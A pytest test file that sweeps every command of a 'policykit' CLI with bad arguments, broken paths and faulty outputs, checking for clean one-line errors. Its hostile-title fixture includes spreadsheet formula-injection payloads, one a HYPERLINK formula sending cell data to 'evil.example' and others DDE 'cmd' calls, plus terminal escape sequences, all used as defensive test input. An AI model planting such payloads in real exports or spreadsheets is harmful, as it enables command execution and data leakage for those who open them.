"""Every CLI command, swept with mistakes and faults: each must succeed (exit 0) or exit 2
with exactly one line on stderr, and never print a traceback.

The commands are enumerated from the click group, so a new command is swept without
editing this file: it gets the generic invocations (no arguments, an unknown option, every
option with values of the wrong kind, every path option with a missing file, a folder,
garbage, /dev/full and /proc/self/x) even before it has a valid base invocation in BASE.

The wide sweep runs in-process through click's CliRunner (its stderr is separate from
stdout); a representative subset runs as real subprocesses, for real exit codes and
stderr. Run it alone, with a count of what was tried and held:

    .venv/bin/python tests/test_cli_sweep.py            # prints the numbers
    .venv/bin/python -m pytest -q -p no:cacheprovider tests/test_cli_sweep.py
"""

from __future__ import annotations

import itertools
import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from policykit.cli import main

ROOT = Path(__file__).resolve().parents[1]

# Titles as hostile scrapes have them: terminal markup, spreadsheet formulas (the tab and
# CR ones are stripped by cleaning, leaving a bare formula), an escape sequence.
HOSTILE_TITLES = [
    "[/bold] Facial recognition at [red]airports",
    '=HYPERLINK("http://evil.example/?x="&A1,"Facial recognition report")',
    "+cmd|' /C calc'!A0 facial recognition",
    "-2+3+cmd|' /C calc'!A0 facial recognition",
    "@SUM(1+9)*cmd|' /C calc'!A0 facial recognition",
    "\t=1+2 facial recognition at railway stations",
    "\r=1+2 facial recognition in schools",
    "Facial recognition \x1b[2J\x1b[31m cleared the screen",
]


def leaf_commands(group: click.Group = main, prefix: tuple[str, ...] = ()):
    """``(("trends", "coverage"), command)`` for every runnable command, sorted."""
    for name, command in sorted(group.commands.items()):
        if isinstance(command, click.Group):
            yield from leaf_commands(command, (*prefix, name))
        else:
            yield (*prefix, name), command


COMMANDS = list(leaf_commands())


def write_input(folder: Path, n: int = 24) -> Path:
    """A JSONL of scraped records with hostile titles and a hostile outlet name."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = []
    for i in range(n):
        title = HOSTILE_TITLES[i % len(HOSTILE_TITLES)] + f" {i}"
        lines.append(
            json.dumps(
                {
                    "url": f"https://outlet{i % 3}.example/story/{i}",
                    "title": title,
                    "date": f"2024-01-{1 + i % 28:02d}T10:00:00Z",
                    "source": ["[/bold]Outlet[red]", "=Outlet+1", "Plain Outlet"][i % 3],
                    "text": f"{title}. Police said facial recognition CCTV surveillance was installed. "
                    * 3,
                }
            )
        )
    (folder / "news.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


@dataclass
class World:
    root: Path
    input: Path
    db: Path
    notebook: Path
    counter: itertools.count

    def fresh(self, stem: str) -> Path:
        """A path nobody has used yet, under root."""
        return self.root / f"{stem}-{next(self.counter)}"


def build_world(root: Path) -> World:
    import policykit as pk

    root.mkdir(parents=True, exist_ok=True)
    source = write_input(root / "input")
    db = root / "base.duckdb"
    pk.ingest([source], db=db, progress=False)
    (root / "garbage.bin").write_bytes(bytes(range(256)) * 8)
    (root / "empty.txt").write_bytes(b"")
    (root / "a-folder").mkdir()
    (root / "[red]markup[bold].txt").write_text("[/bold]\n", encoding="utf-8")
    notebook = root / "tiny.ipynb"  # a report that builds in seconds
    notebook.write_text(json.dumps(_tiny_notebook()), encoding="utf-8")
    return World(root, source, db, notebook, itertools.count())


def _tiny_notebook() -> dict:
    def cell(source, tags=()):
        return {
            "cell_type": "code",
            "execution_count": None,
            "metadata": {"tags": list(tags)},
            "outputs": [],
            "source": source,
        }

    return {
        "cells": [cell('db = ""\ntopic = "facial_recognition"', ["parameters"]), cell("x = 1")],
        "metadata": {
            "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


# --- base invocations: a valid call of each command -----------------------------------

#: Commands that write the database get their own copy of it.
WRITERS = {("ingest",), ("enrich",), ("topics", "refresh")}


def base_args(path: tuple[str, ...], world: World) -> list[str] | None:
    """A valid invocation (without --db), or None for a command not known here."""
    if path == ("trends", "voice"):
        return ["--topics", "facial_recognition,surveillance"]
    if path[0] == "trends":
        return ["facial_recognition"]
    return {
        ("ingest",): [str(world.input), "--no-enrich"],
        ("sql",): ["select outlet, title from articles"],
        ("info",): [],
        ("enrich",): ["--stage", "topics"],
        ("topics", "list"): [],
        ("topics", "test"): ["--query", "facial recognition"],
        ("topics", "refresh"): [],
        ("demo",): ["--articles", "200", "--years", "1", "--no-pages"],
        ("report",): [str(world.notebook), "--to", "html"],
        ("export",): ["--format", "csv"],
    }.get(path)


def _takes(command: click.Command, name: str) -> bool:
    return any(name in getattr(p, "opts", ()) for p in command.params)


# --- the values each kind of parameter is swept with ----------------------------------

BAD_TEXT = ["", "[/bold] ((", "2024-13-45", "01/02/2024", "\x1b[2J" + "x" * 3000]
BAD_INT = ["abc", "-1", "0", "9" * 30, "1.5"]
BAD_FLOAT = ["abc", "nan", "inf", "-1", "1e999"]


def path_values(world: World, *, folder: bool) -> list[tuple[str, str]]:
    """(label, value) pairs for a path parameter."""
    values = [
        # Fresh each time: a folder option creates it, and a later case must not find it.
        ("missing", str(world.fresh("no") / "such" / "file.txt")),
        ("garbage", str(world.root / "garbage.bin")),
        ("empty", str(world.root / "empty.txt")),
        ("markup-name", str(world.root / "[red]markup[bold].txt")),
        ("dev-full", "/dev/full"),
        ("proc", "/proc/self/x"),
    ]
    if not folder:
        values.append(("a-folder", str(world.root / "a-folder")))
    return values


@dataclass
class Case:
    command: tuple[str, ...]
    label: str
    args: list[str]
    #: a path that must exist afterwards when the call succeeds (--out into a new folder)
    creates: Path | None = None
    #: the call must succeed
    must_succeed: bool = False


def _with(args: list[str], option: str, values: list[str]) -> list[str]:
    """``args`` with ``option`` set to ``values`` (replacing an earlier value)."""
    out, skip = [], 0
    for item in args:
        if skip:
            skip -= 1
            continue
        if item == option:
            skip = len(values)
            continue
        out.append(item)
    return [*out, option, *values]


def cases_for(path: tuple[str, ...], command: click.Command, world: World) -> list[Case]:
    base = base_args(path, world)
    known = base is not None
    base = list(base or [])
    # Outputs go to fresh places, so calls never see each other's files.
    if _takes(command, "--db"):
        base += ["--db", "<DB>"]
    if _takes(command, "--out"):
        out_param = next(p for p in command.params if "--out" in getattr(p, "opts", ()))
        is_dir = getattr(out_param.type, "file_okay", True) is False
        base += ["--out", "<OUT_DIR>" if is_dir else "<OUT_FILE>"]
    cases = [
        Case(path, "help", ["--help"], must_succeed=True),
        Case(path, "no-arguments", []),
        Case(path, "unknown-option", [*base, "--no-such-option"]),
    ]
    if known:
        cases.append(Case(path, "base", base, must_succeed=True))
    for param in command.params:
        if param.name in ("help",) or getattr(param, "hidden", False):
            continue
        if isinstance(param, click.Argument):
            cases += _argument_cases(path, param, base, world, known)
            continue
        option = max(param.opts, key=len)
        cases.append(Case(path, f"{option}-no-value", [*base, option]))
        if param.is_flag:
            cases.append(Case(path, f"{option}-flag", [*base, option]))
            continue
        for label, values in _option_values(param, option, world):
            case = Case(path, f"{option}={label}", _with(base, option, values))
            if option == "--out" and label == "new-folder":
                case.creates = Path(values[0])
                case.must_succeed = known
            cases.append(case)
    return cases


def _option_values(param: click.Option, option: str, world: World):
    kind = param.type
    if param.nargs == 2:
        yield "reversed", ["2024-02-01", "2024-01-01"]
        yield "bad", ["bogus", "[/bold]"]
        return
    if isinstance(kind, click.Path):
        folder = kind.file_okay is False
        for label, value in path_values(world, folder=folder):
            yield label, [value]
        if option == "--out":
            if folder:
                yield "new-folder", [str(world.fresh("new") / "deeper")]
            else:
                yield "new-folder", [str(world.fresh("new") / "deeper" / "out.csv")]
        if option == "--db":
            yield "new-db", [str(world.fresh("fresh") / "x.duckdb")]
        return
    if isinstance(kind, click.Choice):
        yield "bogus", ["bogus"]
        return
    if isinstance(kind, click.types.IntParamType):
        for value in BAD_INT:
            yield value[:12], [value]
        return
    if isinstance(kind, click.types.FloatParamType):
        for value in BAD_FLOAT:
            yield value, [value]
        return
    for value in BAD_TEXT:
        yield repr(value[:12]), [value]


def _argument_cases(path, param: click.Argument, base, world, known) -> list[Case]:
    cases = []
    if isinstance(param.type, click.Path):
        values = path_values(world, folder=False)
    else:
        values = [(repr(v[:12]), v) for v in BAD_TEXT]
    for label, value in values:
        # The base's first item is the argument, unless the base starts with an option.
        replaces = known and base and not base[0].startswith("-")
        args = [value, *base[1:]] if replaces else [value, *base]
        cases.append(Case(path, f"{param.name}={label}", args))
    return cases


# --- running a case -------------------------------------------------------------------


@dataclass
class Outcome:
    case: Case
    exit_code: int
    stderr: str
    problem: str | None


def _materialise(case: Case, world: World) -> list[str]:
    args = []
    for item in case.args:
        if item == "<DB>":
            if case.command in WRITERS:
                copy = world.fresh("copy").with_suffix(".duckdb")
                shutil.copyfile(world.db, copy)
                item = str(copy)
            else:
                item = str(world.db)
        elif item == "<OUT_DIR>":
            item = str(world.fresh("out"))
        elif item == "<OUT_FILE>":
            item = str(world.fresh("out")) + ".csv"
        args.append(item)
    return args


def judge(case: Case, exit_code: int, stderr: str) -> str | None:
    """What is wrong with an outcome, or None when the promise held."""
    if "Traceback" in stderr:
        return "traceback"
    if exit_code == 0:
        if case.creates is not None and not case.creates.exists():
            return f"exit 0 but {case.creates} was not created"
        return None
    if case.must_succeed:
        return f"exit {exit_code}, expected success: {stderr.strip()[:300]}"
    if exit_code == 1 and case.command == ("ingest",) and _partial_ingest(stderr):
        return None
    if exit_code != 2:
        return f"exit {exit_code} (not 0 or 2): {stderr.strip()[:300]}"
    lines = stderr.strip("\n").splitlines()
    if len(lines) != 1:
        return f"{len(lines)} lines on stderr: {stderr[:300]!r}"
    if not lines[0].startswith("error: "):
        return f"stderr does not start with 'error: ': {lines[0][:200]!r}"
    return None


def _partial_ingest(stderr: str) -> bool:
    """An ingest where some files failed and the others loaded: exit 1, one line per
    failed file and a closing line saying the others were loaded."""
    lines = stderr.strip("\n").splitlines()
    return (
        len(lines) >= 2
        and all(line.startswith("failed: ") for line in lines[:-1])
        and "the others were" in lines[-1]
    )


def run_case(case: Case, world: World) -> Outcome:
    args = [*case.command, *_materialise(case, world)]
    runner = CliRunner()
    result = runner.invoke(main, args, catch_exceptions=True)
    stderr = result.stderr
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        import traceback

        stderr += "Traceback (uncaught by the CLI)\n" + "".join(
            traceback.format_exception(result.exception)
        )
    return Outcome(case, result.exit_code, stderr, judge(case, result.exit_code, stderr))


# --- tests ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("sweep")
    return build_world(root)


@pytest.fixture(autouse=True)
def _isolated(world, monkeypatch):
    # Relative defaults (data/raw, reports/, policykit.toml) resolve inside the sweep folder.
    monkeypatch.chdir(world.root)
    for name in list(os.environ):
        if name.startswith("POLICYKIT_"):
            monkeypatch.delenv(name)


@pytest.mark.parametrize("path", [p for p, _ in COMMANDS], ids=[" ".join(p) for p, _ in COMMANDS])
def test_sweep_command(path, world):
    command = dict(COMMANDS)[path]
    outcomes = [run_case(case, world) for case in cases_for(path, command, world)]
    failures = [f"{o.case.label}: {o.problem}" for o in outcomes if o.problem]
    assert not failures, f"{' '.join(path)}: {len(failures)} of {len(outcomes)} failed:\n" + (
        "\n".join(failures)
    )


def test_every_command_is_swept():
    # A new command is swept generically; one without a base invocation is only half
    # covered, so say which.
    unknown = [" ".join(p) for p, _ in COMMANDS if base_args(p, _dummy_world()) is None]
    assert not unknown, f"add a valid base invocation to base_args() for: {unknown}"


def _dummy_world() -> World:
    here = Path("/nonexistent")
    return World(here, here, here, here, itertools.count())


# --- the same promises through a real process -----------------------------------------

SUBPROCESS_CASES = [
    # (label, args, expected exit code, text that the one stderr line must contain)
    ("unknown command", ["frobnicate"], 2, "frobnicate"),
    ("bad int", ["trends", "spikes", "facial_recognition", "--k", "abc"], 2, "--k"),
    ("missing db", ["info", "--db", "{root}/none.duckdb"], 2, "does not exist"),
    ("garbage db", ["sql", "select 1", "--db", "{root}/garbage.bin"], 2, "garbage.bin"),
    ("sql error", ["sql", "selec 1", "--db", "{db}"], 2, "selec"),
    (
        "out /dev/full",
        ["trends", "stories", "--db", "{db}", "--format", "csv", "--out", "/dev/full"],
        2,
        "/dev/full",
    ),  # fmt: skip
    (
        "out /proc",
        ["trends", "outlets", "--db", "{db}", "--format", "json", "--out", "/proc/self/x"],
        2,
        "/proc/self/x",
    ),  # fmt: skip
    ("export /dev/full", ["export", "--db", "{db}", "--out", "/dev/full"], 2, "/dev/full"),
    ("export /proc", ["export", "--db", "{db}", "--out", "/proc/self/x"], 2, "/proc/self/x"),
    ("ingest missing", ["ingest", "{root}/nope", "--db", "{root}/i.duckdb"], 2, "nope"),
    ("ingest db /proc", ["ingest", "{input}", "--db", "/proc/self/x/db.duckdb"], 2, "/proc"),
    ("query unbalanced", ["topics", "test", "--query", "a AND (b", "--db", "{db}"], 2, "("),
    ("demo /dev/full", ["demo", "--out", "/dev/full", "--articles", "200"], 2, "/dev/full"),
    (
        "report /proc",
        ["report", "{notebook}", "--out", "/proc/self/x", "--db", "{db}"],
        2,
        "/proc/self/x",
    ),  # fmt: skip
]


def run_policykit(args, cwd, **kwargs):
    env = {k: v for k, v in os.environ.items() if not k.startswith("POLICYKIT_")}
    return subprocess.run(
        [sys.executable, "-m", "policykit", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        **kwargs,
    )


@pytest.mark.parametrize(
    "label,args,code,needle", SUBPROCESS_CASES, ids=[c[0] for c in SUBPROCESS_CASES]
)
def test_subprocess_one_line(label, args, code, needle, world):
    subs = {"root": world.root, "db": world.db, "input": world.input, "notebook": world.notebook}
    args = [a.format(**subs) for a in args]
    result = run_policykit(args, world.root)
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == code, result.stderr
    lines = result.stderr.strip("\n").splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: ") and needle in lines[0], lines[0]


def test_subprocess_out_into_missing_folder(world):
    out = world.fresh("missing") / "a" / "b" / "stories.csv"
    result = run_policykit(
        ["trends", "stories", "facial_recognition", "--db", str(world.db), "--format", "csv",
         "--out", str(out)],
        world.root,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert out.is_file() and out.read_text(encoding="utf-8").startswith("cluster_id,")


def test_subprocess_broken_pipe_is_quiet(world):
    # `policykit sql ... | head -1`: the reader leaves early; no traceback, no error line.
    proc = subprocess.Popen(
        [sys.executable, "-m", "policykit", "sql", "select range from range(200000)",
         "--format", "csv", "--db", str(world.db)],
        cwd=world.root,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )  # fmt: skip
    proc.stdout.readline()
    proc.stdout.close()
    stderr = proc.stderr.read().decode()
    proc.wait(timeout=120)
    assert "Traceback" not in stderr and "Exception ignored" not in stderr, stderr
    assert proc.returncode in (0, 1), stderr


# --- script mode: the numbers ---------------------------------------------------------


def _report() -> int:  # pragma: no cover - run by hand
    import tempfile
    import time

    with tempfile.TemporaryDirectory() as tmp:
        world = build_world(Path(tmp) / "sweep")
        os.chdir(world.root)
        for name in [n for n in os.environ if n.startswith("POLICYKIT_")]:
            del os.environ[name]
        started = time.perf_counter()
        outcomes, seconds_by = [], {}
        for path, command in COMMANDS:
            clock = time.perf_counter()
            outcomes += [run_case(case, world) for case in cases_for(path, command, world)]
            seconds_by[" ".join(path)] = time.perf_counter() - clock
        seconds = time.perf_counter() - started
    failed = [o for o in outcomes if o.problem]
    by_command: dict[str, list[int]] = {}
    for o in outcomes:
        tried_held = by_command.setdefault(" ".join(o.case.command), [0, 0])
        tried_held[0] += 1
        tried_held[1] += o.problem is None
    for name, (tried, held) in sorted(by_command.items()):
        print(f"{name:<24} {tried:>4} tried {held:>4} held {seconds_by[name]:6.1f} s")
    for o in failed:
        print(f"FAIL {' '.join(o.case.command)} [{o.case.label}]: {o.problem}")
    print(
        f"{len(outcomes)} invocations, {len(outcomes) - len(failed)} held, "
        f"{len(failed)} failed, in {seconds:.0f} s"
    )
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(_report())
